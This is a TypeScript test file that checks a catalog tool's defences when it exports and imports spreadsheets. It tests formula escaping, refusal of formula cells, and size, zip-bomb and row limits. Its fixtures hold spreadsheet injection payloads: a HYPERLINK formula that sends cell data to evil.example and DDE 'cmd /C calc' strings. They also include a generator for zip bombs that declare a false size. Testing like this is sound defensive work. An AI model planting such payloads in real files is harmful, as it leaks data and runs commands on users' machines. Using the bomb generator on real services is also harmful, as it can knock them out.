// Spreadsheets as an attack surface (issue 10 item 14): formula injection on export and import,
// formula cells, and size / unpacked size / row limits checked before ExcelJS loads the file.
// Files are made with ExcelJS (what an administrator's Excel round trip produces) or, for the zip
// bombs, written by hand following the zip format (PKWARE APPNOTE.TXT §4.3).
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { deflateRawSync } from "node:zlib";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { readCatalogFile } from "../../src/catalog/data-files.js";
import type { Catalog } from "../../src/catalog/catalog-schema.js";
import { readCatalogXlsx, SpreadsheetError, writeCatalogXlsx } from "../../src/catalog/xlsx.js";
import { INDICATOR_SHEET } from "../../src/catalog/xlsx-columns.js";
import { MAX_ROWS } from "../../src/catalog/xlsx-limits.js";

const tmp = mkdtempSync(path.join(tmpdir(), "jx-xlsx-hostile-"));
const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];

function catalogWith(texts: string[]): Catalog {
  const c = readCatalogFile("data/goal-table-2021.json");
  const [a, b, d] = c.indicators;
  a!.note = texts[0]!;
  b!.activities = texts[1]!;
  d!.aliases = [texts[2]!];
  c.indicators[3]!.explanation = texts[3]!;
  return c;
}

async function refusal(file: string): Promise<SpreadsheetError> {
  const err = await readCatalogXlsx(file).catch((e: unknown) => e);
  expect(err).toBeInstanceOf(SpreadsheetError);
  return err as SpreadsheetError;
}

/** A zip with one stored-as-deflate member; `declared` lets the central directory lie. */
function zipWith(name: string, content: Buffer, declared = content.length): Buffer {
  const data = deflateRawSync(content);
  const n = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(declared, 22);
  local.writeUInt16LE(n.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(declared, 24);
  central.writeUInt16LE(n.length, 28);
  central.writeUInt32LE(0, 42);
  const cdOffset = local.length + n.length + data.length;
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(1, 8);
  eocd.writeUInt16LE(1, 10);
  eocd.writeUInt32LE(central.length + n.length, 12);
  eocd.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, n, data, central, n, eocd]);
}

describe("spreadsheet export: formula-like text stays text", () => {
  const file = path.join(tmp, "export.xlsx");
  beforeAll(async () => {
    await writeCatalogXlsx(catalogWith(HOSTILE), file);
  });

  it("writes = + - @ text with a leading apostrophe, as text cells, never formulas", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const values: ExcelJS.CellValue[] = [];
    wb.getWorksheet(INDICATOR_SHEET)!.eachRow((row) => row.eachCell((cell) => void values.push(cell.value)));
    const risky = values.filter((v) => typeof v === "string" && /^'?[=+@]|^'?-\d\+/.test(v));
    expect(risky.length).toBeGreaterThanOrEqual(4);
    for (const v of risky) expect(String(v).startsWith("'")).toBe(true);
    expect(values.some((v) => v !== null && typeof v === "object" && "formula" in v)).toBe(false);
  });

  it("reads its own export back to the original text (the apostrophe removed)", async () => {
    const back = await readCatalogXlsx(file);
    expect(back.indicators[0]!.note).toBe(HOSTILE[0]);
    expect(back.indicators[1]!.activities).toBe(HOSTILE[1]);
    expect(back.indicators[2]!.aliases).toEqual([HOSTILE[2]]);
    expect(back.indicators[3]!.explanation).toBe(HOSTILE[3]);
  });
});

describe("spreadsheet import: formulas refused with their row", () => {
  it("refuses formula-like text typed without the apostrophe, and formula cells, naming each row", async () => {
    const file = path.join(tmp, "import.xlsx");
    await writeCatalogXlsx(readCatalogFile("data/goal-table-2021.json"), file);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const sheet = wb.getWorksheet(INDICATOR_SHEET)!;
    sheet.getRow(3).getCell(7).value = '=HYPERLINK("http://evil.example","x")';
    sheet.getRow(4).getCell(7).value = "@SUM(1)";
    sheet.getRow(5).getCell(7).value = { formula: "1+1", result: 2 };
    sheet.getRow(6).getCell(7).value = "-5%"; // a signed number is data
    await wb.xlsx.writeFile(file);
    const err = await refusal(file);
    const rows = err.errors.map((e) => e.row);
    expect(rows).toEqual(expect.arrayContaining([3, 4, 5]));
    expect(rows).not.toContain(6);
    expect(err.errors.find((e) => e.row === 3)!.reason).toMatch(/公式/);
    expect(err.errors.find((e) => e.row === 5)!.reason).toMatch(/公式单元格不接受/);
  });
});

describe("spreadsheet limits, before loading", () => {
  it("refuses a file over 5 MB", async () => {
    const file = path.join(tmp, "big.xlsx");
    writeFileSync(file, Buffer.alloc(5 * 1024 * 1024 + 1));
    expect((await refusal(file)).errors[0]!.reason).toMatch(/超过上限 5 MB/);
  });

  it("refuses a small file that unpacks past 50 MB", async () => {
    const file = path.join(tmp, "bomb.xlsx");
    writeFileSync(file, zipWith("xl/sharedStrings.xml", Buffer.alloc(60 * 1024 * 1024, 0x41)));
    expect((await refusal(file)).errors[0]!.reason).toMatch(/解压后 60 MB，超过上限 50 MB/);
  });

  it("refuses a member that inflates past the size it declares (a lying zip bomb)", async () => {
    const file = path.join(tmp, "liar.xlsx");
    writeFileSync(file, zipWith("xl/sharedStrings.xml", Buffer.alloc(20 * 1024 * 1024, 0x41), 1000));
    expect((await refusal(file)).errors[0]!.reason).toMatch(/大于它声明的大小/);
  });

  it(`refuses more than ${MAX_ROWS} rows`, async () => {
    const file = path.join(tmp, "rows.xlsx");
    const wb = new ExcelJS.Workbook();
    const sheet = wb.addWorksheet(INDICATOR_SHEET);
    for (let i = 0; i < MAX_ROWS + 50; i++) sheet.addRow([`2021-${i}`, 1, "职责", "目标"]);
    await wb.xlsx.writeFile(file);
    expect((await refusal(file)).errors[0]!.reason).toMatch(/超过上限 2000 行/);
  });
});
